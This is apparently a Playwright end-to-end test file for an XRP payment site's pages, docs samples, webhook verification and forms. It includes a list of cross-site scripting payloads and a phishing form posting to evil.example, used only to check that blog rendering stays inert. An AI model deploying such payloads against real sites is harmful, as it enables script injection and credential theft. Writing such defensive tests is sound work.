import { execFileSync, execSync } from "node:child_process";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { expect, type Locator, type Page, test } from "@playwright/test";
import { createPayment, eventually, simulate } from "./support/api";
import { isSoundAt } from "./support/axe";
import { Receiver } from "./support/receiver";
import { readStack } from "./support/stack";
import { complaintsOf } from "./support/watch";

const PYTHON = resolve(import.meta.dirname, "../../.venv/bin/python");

const PAGES = [
  { path: "/", heading: /Accept XRP/, title: "Accept XRP payments | Dropwise" },
  { path: "/about", heading: /Getting paid/, title: "About Us | Dropwise" },
  { path: "/contact", heading: /Write to us/, title: "Contact Us | Dropwise" },
  { path: "/leaderboard", heading: /Burn leaderboard/, title: "Burn leaderboard | Dropwise" },
  { path: "/blogs", heading: /^Blog$/, title: "Blogs | Dropwise" },
  { path: "/blogs/verify-webhooks", heading: /Verify webhooks/, title: /Verify webhooks.* \| Dropwise$/ },
  { path: "/docs", heading: /API documentation/, title: "API documentation | Dropwise" },
];

// How each of them looks at every width is in screens.spec.ts.
for (const { path, heading, title } of PAGES) {
  test(`${path}: has its title, no complaint from the browser, and no request to another origin`, {
    tag: "@production",
  }, async ({ page }) => {
    const { origin } = readStack();
    const complaints = await complaintsOf(page);
    const foreign: string[] = [];
    page.on("request", (request) => {
      const url = new URL(request.url());
      if (url.protocol !== "data:" && url.origin !== origin) foreign.push(request.url());
    });
    await page.goto(path);
    await expect(page.getByRole("heading", { level: 1, name: heading })).toBeVisible();
    await expect(page.locator("main .breathe")).toHaveCount(0);
    await expect(page).toHaveTitle(title);
    expect(complaints).toEqual([]);
    expect(foreign).toEqual([]);
  });
}

test("a post that does not exist says so, and leads back to the list", { tag: "@production" }, async ({ page }) => {
  await page.goto("/blogs/nothing-of-this-name");
  await expect(page.getByRole("heading", { level: 1, name: "Blog not found or failed to load" })).toBeVisible();
  await page.getByRole("link", { name: "Back to Blogs" }).click();
  await expect(page.getByRole("heading", { level: 1, name: "Blog" })).toBeFocused();
});

for (const [from, to] of [
  ["/documentation", "/docs"],
  ["/signup", "/auth/signup"],
  ["/nowhere/at/all", "/"],
] as const) {
  test(`${from} leads to ${to}`, { tag: "@production" }, async ({ page }) => {
    await page.goto(from);
    await expect(page).toHaveURL(`${readStack().origin}${to}`);
  });
}

test("the slide-in menu keeps the focus, closes on Escape and on its backdrop, and returns the focus", async ({
  page,
}) => {
  await page.setViewportSize({ width: 390, height: 844 });
  await page.goto("/about");
  const button = page.getByRole("button", { name: "Menu" });
  const menu = page.getByRole("dialog", { name: "Menu" });
  await button.press("Enter");
  await expect(menu).toBeVisible();
  for (let step = 0; step < 12; step += 1) {
    await page.keyboard.press("Tab");
    expect(
      await page.evaluate(
        () => document.activeElement === document.body || document.activeElement?.closest("dialog") !== null,
      ),
    ).toBe(true);
  }
  await isSoundAt(page, [390, 320]);
  await page.keyboard.press("Escape");
  await expect(menu).toBeHidden();
  await expect(button).toBeFocused();
  await button.click();
  await page.mouse.click(10, 400);
  await expect(menu).toBeHidden();
  await button.click();
  await menu.getByRole("link", { name: "Leaderboard" }).click();
  await expect(page).toHaveURL(/\/leaderboard$/);
  await expect(page.getByRole("heading", { level: 1, name: "Burn leaderboard" })).toBeFocused();
});

test("a visitor pays a demo payment in place, and the split is drawn from it", async ({ page }) => {
  // The testimonials stand still: axe would read one while it fades.
  await page.emulateMedia({ reducedMotion: "reduce" });
  await page.goto("/");
  const card = page.getByRole("region", { name: "The latest payment" });
  await page.getByRole("button", { name: /^Watch a payment settle/ }).click();
  await expect(card.getByRole("heading", { name: "Your payment, on the local ledger" })).toBeVisible();
  await expect(card.getByText(/^Settled in \d+\.\d s\.$/)).toBeVisible();
  await expect(card.getByRole("img")).toHaveAccessibleName(
    "10.00 XRP received: 9.90 to the merchant, 0.09 kept, 0.01 to the burn wallet",
  );
  await expect(card.getByText("Pending Burn")).toHaveCount(0);
  await expect(card.getByRole("link", { name: /explorer/ })).toHaveCount(3);
  await isSoundAt(page, [390, 1440]);
});

test("the hero has one line a sentence; its buttons are equal on a phone and beside each other from 1024 px", async ({
  page,
}) => {
  await page.goto("/");
  const lines = page.getByRole("heading", { level: 1 }).locator("span");
  const buttons = ["Start Free - No Credit Card Required", "View Documentation"].map((name) =>
    page.getByRole("link", { name }).first(),
  );
  const boxes = (of: Locator[]) =>
    Promise.all(of.map(async (one) => (await one.boundingBox()) ?? { y: 0, width: 0, height: 0 }));
  for (const width of [390, 1024, 1440]) {
    await page.setViewportSize({ width, height: 900 });
    await expect(lines).toHaveText(["Accept XRP.", "Keep 99%.", "Settled in seconds."]);
    const heights = (await boxes(await lines.all())).map(({ height }) => Math.round(height));
    expect(new Set(heights).size, `lines at ${width}`).toBe(1);
    const [first, second] = await boxes(buttons);
    if (width === 390) expect(first?.width).toBe(second?.width);
    else expect(first?.y).toBe(second?.y);
  }
});

test("sign-up fits a window of 900 px, the terms included", async ({ page }) => {
  await page.setViewportSize({ width: 1440, height: 900 });
  await page.goto("/auth/signup");
  await expect(page.getByRole("link", { name: "the terms" })).toHaveAttribute("href", "https://shop.example/terms");
  expect(await page.evaluate(() => document.documentElement.scrollHeight)).toBeLessThanOrEqual(900);
});

test("the terms and the privacy policy are linked in the footer and at the checkout", async ({ page }) => {
  await page.goto("/about");
  const links = [
    ["Terms of service", "https://shop.example/terms"],
    ["Privacy policy", "https://shop.example/privacy"],
  ] as const;
  for (const path of ["/about", "/blogs/verify-webhooks", (await createPayment()).checkout_url]) {
    await page.goto(path);
    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
    for (const [name, href] of links) {
      await expect(page.getByRole("contentinfo").getByRole("link", { name })).toHaveAttribute("href", href);
    }
  }
});

test("an unknown checkout is a 404 with its page", { tag: "@production" }, async ({ page }) => {
  const response = await page.goto("/checkout/5b0c7a3e-0d6e-4d61-9a35-1f2f3d0c8a11");
  expect(response?.status()).toBe(404);
  await expect(page.getByText("The requested payment could not be found.")).toBeVisible();
});

test("on a phone the contact form comes before what is beside it, and a post's title before its pictures", async ({
  page,
}) => {
  await page.setViewportSize({ width: 390, height: 844 });
  await page.goto("/contact");
  await expect(page.getByLabel("Name")).toBeInViewport();
  await expect(page.getByLabel("Message")).toBeInViewport();
  await page.goto("/blogs/how-the-split-works");
  await expect(page.getByRole("heading", { level: 1 })).toBeInViewport();
  const title = await page.getByRole("heading", { level: 1 }).boundingBox();
  const picture = await page.getByRole("article").getByRole("img").first().boundingBox();
  expect(title?.y ?? 0).toBeLessThan(picture?.y ?? 0);
});

test("the leaderboard of a trial ranks its five shops, and only the demo merchant's password is known", async ({
  page,
}) => {
  await page.goto("/leaderboard");
  const rows = page.getByRole("main").getByRole("button");
  await expect(rows).toHaveCount(5);
  await expect(rows.first()).toContainText("Nordlicht Records");
  await rows.last().click();
  await expect(page.getByText("2 payments so far. The 2 newest transactions to the burn wallet:")).toBeVisible();
  expect(Object.keys(readStack().accounts).sort()).toEqual(["admin", "merchant"]);
});

/** The code sample in the region of this name, as a reader would copy it. */
async function sample(page: Page, name: string): Promise<string> {
  return page.getByRole("region", { name }).locator("code").innerText();
}

/** Runs `command` in a new folder with `files` and the demo merchant's test key; returns what it printed. */
function run(files: Record<string, string>, command: string, args: string[], install?: string): string {
  const folder = mkdtempSync(join(tmpdir(), "sample-"));
  try {
    if (install !== undefined) execSync(install, { cwd: folder, stdio: "pipe" });
    for (const [name, text] of Object.entries(files)) writeFileSync(join(folder, name), text);
    const DROPWISE_SECRET_KEY = readStack().accounts.merchant.secret_keys.test;
    return execFileSync(command, args, {
      cwd: folder,
      env: { ...process.env, DROPWISE_SECRET_KEY },
      encoding: "utf8",
      timeout: 30_000,
    });
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}

test("both samples of the quick start run unchanged", async ({ page }) => {
  await page.goto("/");
  const script = await sample(page, "createPayment in JavaScript");
  const install = await sample(page, "Install the SDK");
  const printed = run({ "shop.mjs": script }, process.execPath, ["shop.mjs"], install);
  const [checkout, status] = printed.trim().split("\n");
  expect(checkout).toMatch(new RegExp(`^${readStack().origin}/checkout/[0-9a-f-]{36}$`));
  expect(status).toBe("pending");

  await page.getByRole("tab", { name: "REST API" }).click();
  const answer = run({ "first.sh": await sample(page, "Create a payment with curl") }, "bash", ["first.sh"]);
  const { payment_request: made } = JSON.parse(answer) as { payment_request: Record<string, unknown> };
  expect(made).toMatchObject({ title: "Low Tide EP", amount: "10.000000", status: "pending", livemode: false });
});

test("the documented webhook checks accept a real delivery and refuse a forged one", async ({ page }) => {
  const receiver = await Receiver.open();
  try {
    const payment = await createPayment();
    await simulate(payment.id, "exact");
    const hooks = await eventually(
      async () => receiver.of(payment.id),
      (all) => all.some((hook) => hook.body.event_type === "payment.completed"),
    );
    const hook = hooks.find((one) => one.body.event_type === "payment.completed");
    if (hook === undefined) throw new Error("No delivery.");

    await page.goto("/docs#verify-signature");
    await page
      .getByRole("group", { name: "Language: Verify a webhook" })
      .getByRole("button", { name: "JavaScript" })
      .click();
    const script = await sample(page, "Verify a webhook in JavaScript");
    const languages = page.getByRole("group", { name: "Language: Verify a webhook" });
    await languages.getByRole("button", { name: "Shell" }).click();
    const shell = await sample(page, "Verify a webhook in a shell");
    await languages.getByRole("button", { name: "Python" }).click();
    const module = await sample(page, "Verify a webhook in Python");
    const delivery = JSON.stringify({ raw: hook.raw.toString("utf8"), headers: hook.headers, secret: receiver.secret });
    const files = {
      "verify.mjs": script,
      "verify.py": module,
      "verify.sh": shell,
      "delivery.json": delivery,
      "try.mjs": `import { readFileSync } from "node:fs";
        import { isFromDropwise } from "./verify.mjs";
        const { raw, headers, secret } = JSON.parse(readFileSync("delivery.json"));
        const stale = { ...headers, "x-webhook-timestamp": "1700000000" };
        console.log([[raw, headers], [raw + " ", headers], [raw, stale], [raw, {}]]
          .map(([body, sent]) => isFromDropwise(Buffer.from(body), sent, [secret])).join());`,
      "try.py": `import json
from verify import is_from_dropwise
one = json.load(open("delivery.json"))
headers = {name.title(): value for name, value in one["headers"].items()}
raw, stale = one["raw"].encode(), {**headers, "X-Webhook-Timestamp": "1700000000"}
tries = [(raw, headers), (raw + b" ", headers), (raw, stale), (raw, {})]
print(",".join(str(is_from_dropwise(body, sent, [one["secret"]])).lower() for body, sent in tries))`,
    };
    expect(run(files, process.execPath, ["try.mjs"]).trim()).toBe("true,false,false,false");
    expect(run(files, PYTHON, ["try.py"]).trim()).toBe("true,false,false,false");
    const sent = (name: string) => String(hook.headers[name]);
    const given = [receiver.secret, sent("x-webhook-timestamp"), sent("x-webhook-signature")].map((one) => `'${one}'`);
    const inShell = (body: string, signature = "$3") => [
      `printf '%s' '${body}' > body.json;`,
      `DROPWISE_WEBHOOK_SECRETS="$1" TIMESTAMP="$2" SIGNATURE="${signature}" bash verify.sh 2>&1 || true`,
    ];
    const verdict = (script: string[]) =>
      run({ ...files, "try.sh": `set -- ${given.join(" ")}; ${script.join(" ")}` }, "bash", ["try.sh"]).trim();
    const raw = hook.raw.toString("utf8");
    expect(verdict(inShell(raw))).toBe("from Dropwise");
    expect(verdict(inShell(`${raw} `))).toBe("forged, or older than five minutes");
    expect(verdict(inShell(raw, ""))).toBe("forged, or older than five minutes");
  } finally {
    await receiver.close();
  }
});

test("a deep link scrolls its section to below the header", async ({ page }) => {
  await page.goto("/docs#errors");
  await expect(page).toHaveURL(/\/docs\/errors#errors$/);
  await expect(page.getByRole("heading", { level: 1, name: "Error Codes" })).toBeInViewport();
  await page.goto("/docs/webhooks#retries");
  const heading = page.getByRole("heading", { name: "Retry schedule" });
  await expect(heading).toBeInViewport();
  const header = await page.getByRole("banner").boundingBox();
  const box = await heading.boundingBox();
  expect(box?.y ?? 0).toBeGreaterThanOrEqual((header?.y ?? 0) + (header?.height ?? 0));
  await expect(
    page.getByRole("navigation", { name: "Documentation" }).locator("[aria-current=location]:visible"),
  ).toHaveText("Retry schedule");
});

const HOSTILE = [
  "<script>window.stung = 1</script>",
  "<img src=x onerror='window.stung = 2'>",
  "<svg onload='window.stung = 3'></svg>",
  "<iframe src='javascript:parent.stung = 4'></iframe>",
  "<a href='javascript:window.stung = 5'>a link</a>",
  "<link rel=stylesheet href=/evil.css><style>body { display: none }</style>",
  "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=stung=6&gt;'>",
];

// The server removes all of this when a post is saved; the page does not rely on it. Reports of the content policy do not
// count here: the browser writes them while it parses the text in an inert document.
test("hostile HTML in a post neither runs nor loads anything, even unsanitised", async ({ page }) => {
  const asked: string[] = [];
  page.on("request", (request) => asked.push(new URL(request.url()).pathname));
  await page.route("**/api/blogs/slug/hostile/", async (route) => {
    const real = await (await fetch(`${readStack().origin}/api/blogs/slug/verify-webhooks/`)).json();
    const sections = [{ ...real.sections[0], body: `<p>The beginning.</p>${HOSTILE.join("<p>between</p>")}` }];
    await route.fulfill({ json: { ...real, sections } });
  });
  await page.goto("/blogs/hostile");
  await expect(page.getByText("The beginning.")).toBeVisible();
  const link = page.getByText("a link");
  await link.click();
  expect(await page.evaluate(() => "stung" in window)).toBe(false);
  expect(await page.locator("article").locator("script, iframe, form, input, link, style, [onerror]").count()).toBe(0);
  expect(asked).not.toContain("/evil.css");
});

test("a message is sent, confirmed, and the form is empty again", async ({ page }) => {
  await page.goto("/contact");
  const send = page.getByRole("button", { name: "Send Message" });
  await expect(send).toBeDisabled();
  await page.getByLabel("Name").fill("Ann");
  await page.getByLabel("Email").fill("ann@example.com");
  await page.getByLabel("Subject").fill("A call");
  await page.getByLabel("Message").fill("Would Monday suit you?");
  await send.click();
  await expect(page.getByText("Your message has been sent successfully!")).toBeVisible();
  await expect(page.getByLabel("Message")).toHaveValue("");
  await expect(send).toBeDisabled();
});

test("a message that could not be sent stays in the form and can be sent again", async ({ page }) => {
  await page.route("**/contact/submit/", (route) => route.abort(), { times: 1 });
  await page.goto("/contact");
  for (const name of ["Name", "Subject", "Message"]) {
    await page.getByLabel(name).fill("Ann");
  }
  await page.getByLabel("Email").fill("ann@example.com");
  await page.getByRole("button", { name: "Send Message" }).press("Enter");
  await expect(page.getByText("Failed to send your message.", { exact: true })).toBeVisible();
  await expect(page.getByRole("button", { name: "Send Message" })).toBeFocused();
  await page.keyboard.press("Enter");
  await expect(page.getByText("Your message has been sent successfully!")).toBeVisible();
});
